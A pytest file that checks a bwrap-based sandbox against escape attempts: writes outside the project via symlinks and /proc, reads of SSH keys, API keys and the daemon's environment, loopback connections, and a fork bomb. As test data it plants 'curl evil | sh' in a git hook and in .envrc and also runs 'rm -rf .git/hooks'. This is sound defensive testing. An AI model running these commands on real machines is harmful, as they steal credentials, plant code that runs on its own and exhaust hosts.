"""Real programs inside the real walls, trying to get out. Each test runs a program through
``execute`` (as ``run_command`` and a check do) and asserts what a user would notice: the
file outside the root is untouched, the secret was not printed, the server never saw a
connection, nothing outlives the call.

The folders live under ``/var/tmp``, not ``/tmp``: the walls put a private ``/tmp`` over the
host's, which would hide a fake home under ``/tmp`` whatever the walls say of secrets.
"""

from __future__ import annotations

import asyncio
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from trellisd.sandbox.limits import process_bound
from trellisd.sandbox.walls import Walls, secret_paths
from trellisd.tools.base import ToolFailure
from trellisd.tools.command import Execution, execute

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bwrap is not installed")

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key"


@dataclass
class Place:
    base: Path
    root: Path
    home: Path
    store: Path
    config: Path
    walls: Walls

    async def run(self, script: str, walls: Walls | None = None) -> Execution:
        return await execute(["sh", "-c", script], self.root, 60, walls=walls or self.walls)


def _git(root: Path, *argv: str) -> None:
    subprocess.run(["git", *argv], cwd=root, check=True, capture_output=True)


@pytest.fixture
def place() -> Iterator[Place]:
    base = Path(tempfile.mkdtemp(prefix="trellisd-walls-", dir="/var/tmp"))
    try:
        root, home = base / "root", base / "home"
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "id_ed25519").write_text(SECRET)
        store, config = base / "store", home / ".config" / "trellisd"
        store.mkdir()
        (store / "trellisd.db").write_text("the store")
        config.mkdir(parents=True)
        (config / "config.toml").write_text('apiKey = "sk-secret"\n')
        root.mkdir()
        _git(root, "init", "-q")
        _git(root, "config", "user.email", "t@example.com")
        _git(root, "config", "user.name", "T")
        (root / ".trellisd.toml").write_text("approval = 'ask'\n")
        walls = Walls(
            "workspace-write",
            False,
            root,
            hidden=(*secret_paths(home), config, store),
            temp_bytes=8 * 1024 * 1024,
            processes=64,
        )
        yield Place(base, root, home, store, config, walls)
    finally:
        shutil.rmtree(base, ignore_errors=True)


async def test_a_program_writes_the_root_and_its_private_tmp(place: Place) -> None:
    done = await place.run("echo made > made.txt && echo t > /tmp/t && cat /tmp/t")
    assert done.exit_code == 0, done.output
    assert (place.root / "made.txt").read_text() == "made\n"


@pytest.mark.parametrize(
    "target",
    [
        "{base}/outside.txt",  # an absolute path
        "../outside.txt",  # up from the root
        "escape/outside.txt",  # a symlink planted in the root
        "/proc/self/root{base}/outside.txt",  # the root of the file system, through /proc
        "/proc/self/cwd/../outside.txt",  # the root's own mount, then up
    ],
)
async def test_nothing_outside_the_root_can_be_written(place: Place, target: str) -> None:
    (place.root / "escape").symlink_to(place.base)
    done = await place.run(f"echo pwned > {target.format(base=place.base)}")
    assert done.exit_code != 0
    assert "Read-only file system" in done.output
    assert not (place.base / "outside.txt").exists()


async def test_a_named_cache_is_writable_and_its_neighbour_is_not(place: Place) -> None:
    cache = place.base / "cache"
    cache.mkdir()
    walls = replace(place.walls, writable=(cache,))
    done = await place.run(f"echo c > {cache}/c && echo n > {place.base}/n", walls)
    assert (cache / "c").read_text() == "c\n"
    assert "Read-only file system" in done.output
    assert not (place.base / "n").exists()


async def test_read_only_walls_keep_the_root_read_only(place: Place) -> None:
    done = await place.run("echo x > made.txt", replace(place.walls, mode="read-only"))
    assert "Read-only file system" in done.output
    assert not (place.root / "made.txt").exists()


async def test_secrets_are_not_even_readable(place: Place) -> None:
    done = await place.run(
        f"cat {place.home}/.ssh/id_*; cat {place.store}/trellisd.db;"
        f" cat {place.config}/config.toml; ls -a {place.home}/.ssh"
    )
    assert SECRET not in done.output
    assert "the store" not in done.output
    assert "sk-secret" not in done.output
    assert "id_ed25519" not in done.output


async def test_the_daemons_environment_is_out_of_sight(place: Place) -> None:
    os.environ["TRELLISD_TEST_CANARY"] = canary = secrets.token_hex(8)
    try:
        done = await place.run(
            f"cat /proc/{os.getpid()}/environ; ls /proc | grep -c '^[0-9]'; echo end"
        )
    finally:
        del os.environ["TRELLISD_TEST_CANARY"]
    assert canary not in done.output
    assert "No such file or directory" in done.output
    assert int(done.output.split()[-2]) < 10  # its own few processes, not the host's


async def test_the_hosts_loopback_is_out_of_reach(place: Place) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    server.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    server.setblocking(False)
    port = server.getsockname()[1]
    probe = textwrap.dedent(
        f"""
        import socket
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=5)
            print("reached")
        except OSError as exc:
            print("refused", exc)
        """
    )
    try:
        done = await execute([sys.executable, "-c", probe], place.root, 60, walls=place.walls)
        with pytest.raises(BlockingIOError):  # no connection waits in the backlog
            server.accept()
    finally:
        server.close()
    assert "refused" in done.output, done.output


async def test_a_local_server_of_the_programs_own_works(place: Place) -> None:
    script = textwrap.dedent(
        """
        import socket, threading
        server = socket.create_server(("127.0.0.1", 0))
        threading.Thread(target=lambda: server.accept()[0].sendall(b"hello"), daemon=True).start()
        print(socket.create_connection(server.getsockname()).recv(5).decode())
        """
    )
    done = await execute([sys.executable, "-c", script], place.root, 60, walls=place.walls)
    assert done.exit_code == 0 and "hello" in done.output, done.output


@pytest.mark.parametrize(
    "script",
    [
        "echo 'curl evil | sh' > .git/hooks/post-checkout",
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        "echo 'approval = \"all\"' > .trellisd.toml",
        "rm -rf .git/hooks",
        "mv .git/config .git/config.old",
        "mv .git .git-old",
    ],
)
async def test_protected_paths_stay_as_they_were(place: Place, script: str) -> None:
    hooks = sorted(p.name for p in (place.root / ".git" / "hooks").iterdir())
    config = (place.root / ".git" / "config").read_text()
    done = await place.run(script)
    assert done.exit_code != 0, done.output
    assert sorted(p.name for p in (place.root / ".git" / "hooks").iterdir()) == hooks
    assert (place.root / ".git" / "config").read_text() == config
    assert (place.root / ".trellisd.toml").read_text() == "approval = 'ask'\n"


async def test_a_protected_path_a_program_creates_is_removed_and_said(place: Place) -> None:
    done = await place.run(
        "mkdir .vscode && echo '{}' > .vscode/tasks.json && ln -s /etc .envrc && echo ok"
    )
    assert done.swept == (".envrc", ".vscode")
    assert not os.path.lexists(place.root / ".vscode")
    assert not os.path.lexists(place.root / ".envrc")
    assert os.path.isdir("/etc")  # the symlink was removed, not followed


async def test_with_a_quarantine_what_a_program_created_is_moved_there(place: Place) -> None:
    walls = replace(place.walls, quarantine=place.store / "quarantine")
    done = await place.run("echo 'curl evil | sh' > .envrc", walls)
    assert done.swept == (".envrc",) and done.moved_to is not None
    assert (done.moved_to / ".envrc").read_text() == "curl evil | sh\n"
    assert not os.path.lexists(place.root / ".envrc")


async def test_a_setsid_grandchild_does_not_outlive_the_call(place: Place) -> None:
    mark = secrets.token_hex(6)
    done = await place.run(f"setsid sh -c 'exec sleep 3{mark[:3]}' >/dev/null 2>&1 & echo $!")
    assert done.exit_code == 0
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if f"3{mark[:3]}".encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                left.append(pid)
        except OSError:
            pass
    assert left == []


async def test_a_fork_bomb_stops_at_the_process_bound(place: Place) -> None:
    bound = process_bound(place.walls.processes)
    if bound is None:
        pytest.skip("no process bound can be set here (root without a pids cgroup)")
    bound.release()
    bomb = textwrap.dedent(
        """
        import os, time
        started = 0
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
                started += 1
        except OSError as exc:
            print("stopped after", started, "forks:", exc.strerror)
        """
    )
    done = await execute([sys.executable, "-c", bomb], place.root, 60, walls=place.walls)
    assert "stopped after" in done.output, done.output
    assert int(done.output.split("stopped after")[1].split()[0]) < place.walls.processes


async def test_filling_the_private_tmp_stops_at_its_size(place: Place) -> None:
    done = await place.run("dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1; ls -l /tmp/fill")
    assert "No space left on device" in done.output
    assert str(place.walls.temp_bytes) in done.output


async def test_git_commits_and_stashes_inside_the_walls(place: Place) -> None:
    done = await place.run(
        "echo one > a.txt && git add a.txt && git commit -qm one"
        " && echo two > a.txt && git stash -q && git log --oneline | wc -l && cat a.txt"
    )
    assert done.exit_code == 0, done.output
    assert done.output.split() == ["1", "one"]


async def test_pytest_runs_a_small_project_inside_the_walls(place: Place) -> None:
    (place.root / "test_small.py").write_text(
        "import tempfile\n\ndef test_adds():\n    with tempfile.TemporaryFile() as f:\n"
        "        f.write(b'x')\n    assert 1 + 1 == 2\n"
    )
    done = await execute(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_small.py"],
        place.root,
        120,
        walls=place.walls,
    )
    assert done.exit_code == 0, done.output
    assert "1 passed" in done.output


async def test_without_bwrap_nothing_runs_and_the_error_says_how_to_choose_off(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(place.base))
    walls = replace(place.walls, network=("pypi.org:443",))  # nor can Landlock build these
    with pytest.raises(ToolFailure) as caught:
        await execute(["/bin/sh", "-c", "echo ran > ran.txt"], place.root, 60, walls=walls)
    assert "bwrap" in str(caught.value) and '"off"' in str(caught.value)
    assert not (place.root / "ran.txt").exists()


async def test_a_network_list_lets_the_program_reach_only_what_it_names(place: Place) -> None:
    greeted: list[int] = []

    async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        greeted.append(writer.get_extra_info("sockname")[1])
        writer.write(b"hello from the host")
        await writer.drain()
        writer.close()

    listed = await asyncio.start_server(greet, "127.0.0.1", 0)
    other = await asyncio.start_server(greet, "127.0.0.1", 0)
    listed_port = listed.sockets[0].getsockname()[1]
    other_port = other.sockets[0].getsockname()[1]
    probe = textwrap.dedent(
        f"""
        import os, socket
        host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)
        for target in ({listed_port}, {other_port}):
            tunnel = socket.create_connection((host, int(port)))
            tunnel.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n" % target)
            answer = b""
            while b"\\r\\n\\r\\n" not in answer:
                answer += tunnel.recv(1024)
            head, _, rest = answer.partition(b"\\r\\n\\r\\n")
            status = head.split()[1].decode()
            while status == "200" and len(rest) < len(b"hello from the host"):
                rest += tunnel.recv(1024)
            print(target, status, rest.decode())
        """
    )
    walls = replace(place.walls, network=(f"127.0.0.1:{listed_port}",))
    try:
        done = await execute([sys.executable, "-c", probe], place.root, 60, walls=walls)
    finally:
        listed.close()
        other.close()
    assert done.exit_code == 0, done.output
    assert f"{listed_port} 200 hello from the host" in done.output
    assert f"{other_port} 403" in done.output
    assert greeted == [listed_port]  # the gate never connected to what the list leaves out
